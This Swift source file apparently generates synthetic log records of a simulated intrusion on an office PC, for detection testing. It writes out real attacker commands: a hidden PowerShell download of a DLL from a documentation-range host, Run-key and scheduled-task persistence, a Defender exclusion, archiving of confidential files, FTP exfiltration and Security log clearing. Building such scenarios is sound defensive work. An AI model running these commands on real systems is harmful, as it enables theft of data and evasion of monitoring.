import Events

/// From a mail's attachment to stolen files: one day on one PC and the file server, with ordinary life around it.
package struct TheftStory {
    /// The records of the PC, in the order of their time.
    package let pc: [ScenarioRecord]
    /// The records of the file server.
    package let server: [ScenarioRecord]

    package init() {
        let server = Machine(Organisation.serverName, Organisation.serverAddress, seed: 71, auditsProcesses: false)
        let desk = Desk(
            Machine("PC-0142", "192.168.20.42", seed: 72, auditsProcesses: false), Organisation.suzuki, server: server,
            share: "総務")
        desk.day = 1
        desk.pc.at(1, 8, 31)
        desk.boot()
        desk.logOn()
        desk.pc.at(1, 9, 5)
        desk.startOutlook()
        desk.editSheet()
        desk.browseShare()
        desk.pc.at(1, 10, 12)
        let implant = desk.openInvoice()
        desk.pc.at(1, 11, 0)
        desk.persist(implant)
        desk.pc.at(1, 11, 20)
        desk.browse()
        desk.lock()
        desk.pc.at(1, 12, 5)
        desk.callHome(implant)
        desk.pc.at(1, 12, 58)
        desk.unlock()
        desk.editDocument()
        desk.pc.at(1, 14, 10)
        desk.collect(implant)
        desk.pc.at(1, 15, 2)
        desk.send(implant)
        desk.pc.at(1, 15, 40)
        desk.coverTracks(implant)
        desk.pc.at(1, 17, 45)
        desk.leave()
        pc = desk.pc.finished()
        self.server = server.finished()
    }
}

extension Desk {
    private static let work = "C:\\ProgramData\\Intel\\GfxSvc\\"
    private static let address = "203.0.113.77"
    private static let system = "C:\\Windows\\System32\\"
    private static let powerShell = system + "WindowsPowerShell\\v1.0\\powershell.exe"

    /// Word opens the attachment, its macro starts PowerShell, that fetches a library.
    func openInvoice() -> Running {
        let path = local + "\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K2P9QX1A\\請求書_202604.docm"
        if let outlook = open["Outlook"] {
            pc.create(path, by: outlook)
            pc.mark(path, from: "about:internet", by: outlook)
        }
        let office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
        let word = start(office, "\"\(office)\" /n \"\(path)\" /o \"\"")
        pc.pause(9)
        let script =
            "$c=New-Object Net.WebClient;$c.DownloadFile('http://198.51.100.23/img/logo.dat','\(Self.work)gfxupd.dll')"
        let shell = pc.start(
            Self.powerShell, "powershell.exe -NoP -W Hidden -Ex Bypass -C \"\(script)\"", by: word,
            original: "PowerShell.EXE")
        pc.scriptBlock(script, by: shell)
        pc.connect("198.51.100.23", 80, by: shell)
        pc.create(Self.work + "gfxupd.dll", by: shell)
        let library = pc.start(
            Self.system + "rundll32.exe", "rundll32.exe \(Self.work)gfxupd.dll,Start", by: shell,
            original: "RUNDLL32.EXE")
        pc.end(shell)
        return library
    }

    /// A Run key, renamed afterwards, a task, and an exception from the scanner.
    func persist(_ implant: Running) {
        let run = software + "\\Microsoft\\Windows\\CurrentVersion\\Run"
        let command = "rundll32.exe \(Self.work)gfxupd.dll,Start"
        let reg = pc.start(
            Self.system + "reg.exe",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v GfxUpdate /d \"\(command)\" /f",
            by: implant)
        pc.set(run + "\\GfxUpdate", command, by: reg)
        pc.end(reg)
        pc.rename(key: run, to: run + "Disabled", by: implant)
        pc.rename(key: run + "Disabled", to: run, by: implant)
        pc.run(
            Self.system + "schtasks.exe", "schtasks /create /tn IntelGfxUpdate /tr \"\(command)\" /sc hourly /f",
            by: implant)
        pc.set(
            "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\IntelGfxUpdate\\Id",
            "{7D1C2A6B-0C0F-4E53-9C3A-44E3D2B1A907}", by: scheduler)
        let shell = pc.start(
            Self.powerShell, "powershell.exe -W Hidden Add-MpPreference -ExclusionPath C:\\ProgramData\\Intel",
            by: implant,
            original: "PowerShell.EXE")
        pc.scriptBlock("Add-MpPreference -ExclusionPath C:\\ProgramData\\Intel", by: shell)
        pc.set(
            "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ProgramData\\Intel",
            "DWORD (0x00000000)", by: defender)
        pc.end(shell)
    }

    /// While nobody sits there: Internet Explorer by COM, Chrome without a window.
    func callHome(_ implant: Running) {
        let image = "C:\\Program Files\\Internet Explorer\\iexplore.exe"
        let browser = startInSession(image, "\"\(image)\" -Embedding", by: launcher)
        for _ in 0..<8 {
            pc.connect(Self.address, by: browser)
            pc.pause(300)
        }
        pc.end(browser)
        let chrome = pc.start(
            Self.chrome,
            "\"\(Self.chrome)\" --headless --disable-gpu --user-data-dir=\(Self.work)p --dump-dom https://\(Self.address)/q",
            by: implant)
        pc.connect(Self.address, by: chrome)
        pc.end(chrome)
    }

    /// Files of the share are fetched and packed: with LHA, with RAR, with 7-Zip under another name.
    func collect(_ implant: Running) {
        for name in ["人事評価_R8.xlsx", "給与台帳.xlsx", "入札予定価格.docx", "住民票コード一覧.csv", "防災計画.pdf"] {
            use("機密\\" + name, .read)
            pc.create(Self.work + "総務\\" + name, by: implant)
        }
        let lha = pc.start(
            Self.work + "LHA.EXE", "LHA.EXE a \(Self.work)data.lzh \(Self.work)総務\\*.*", by: implant,
            original: "LHA32.EXE")
        pc.create(Self.work + "data.lzh", by: lha)
        pc.end(lha)
        let rar = pc.start(
            Self.work + "r.exe", "r.exe a -r -hpZaq12wsx -v10m \(Self.work)d.rar \(Self.work)総務", by: implant,
            original: "Rar.exe")
        for part in 1...3 { pc.create(Self.work + "d.part\(part).rar", by: rar) }
        pc.end(rar)
        let seven = pc.start(
            Self.work + "svhost.exe", "svhost.exe a -tzip -pZaq12wsx \(Self.work)m.zip \(account.profile)\\Documents",
            by: implant,
            original: "7z.exe")
        pc.create(Self.work + "m.zip", by: seven)
        pc.end(seven)
    }

    /// The FTP command with its script, and an FTP client.
    func send(_ implant: Running) {
        let cmd = pc.start(
            Self.system + "cmd.exe", "cmd.exe /c ftp.exe -s:C:\\ProgramData\\up.txt", by: implant, original: "Cmd.Exe")
        pc.create("C:\\ProgramData\\up.txt", by: implant)
        let ftp = pc.start(Self.system + "ftp.exe", "ftp.exe -s:C:\\ProgramData\\up.txt", by: cmd)
        pc.connect("203.0.113.45", 21, by: ftp)
        for port in [50_021, 50_022, 50_023] { pc.connect("203.0.113.45", port, by: ftp) }
        pc.end(ftp)
        pc.end(cmd)
        let client = pc.start("C:\\ProgramData\\ffftp\\FFFTP.exe", "FFFTP.exe -s up", by: implant)
        pc.connect("203.0.113.45", 21, by: client)
        pc.end(client)
    }

    /// The archives go, and the log.
    func coverTracks(_ implant: Running) {
        for name in ["data.lzh", "d.part1.rar", "d.part2.rar", "d.part3.rar"] {
            pc.delete(Self.work + name, by: implant)
        }
        let tool = pc.start(Self.system + "wevtutil.exe", "wevtutil cl Security", by: implant)
        pc.record(
            "Microsoft-Windows-Eventlog", 1102, "Security", pid: 1_220, sid: "", userData: "LogFileCleared",
            [
                ("SubjectUserSid", account.sid), ("SubjectUserName", account.name),
                ("SubjectDomainName", account.domain),
                ("SubjectLogonId", logonID),
            ])
        pc.end(tool)
    }
}
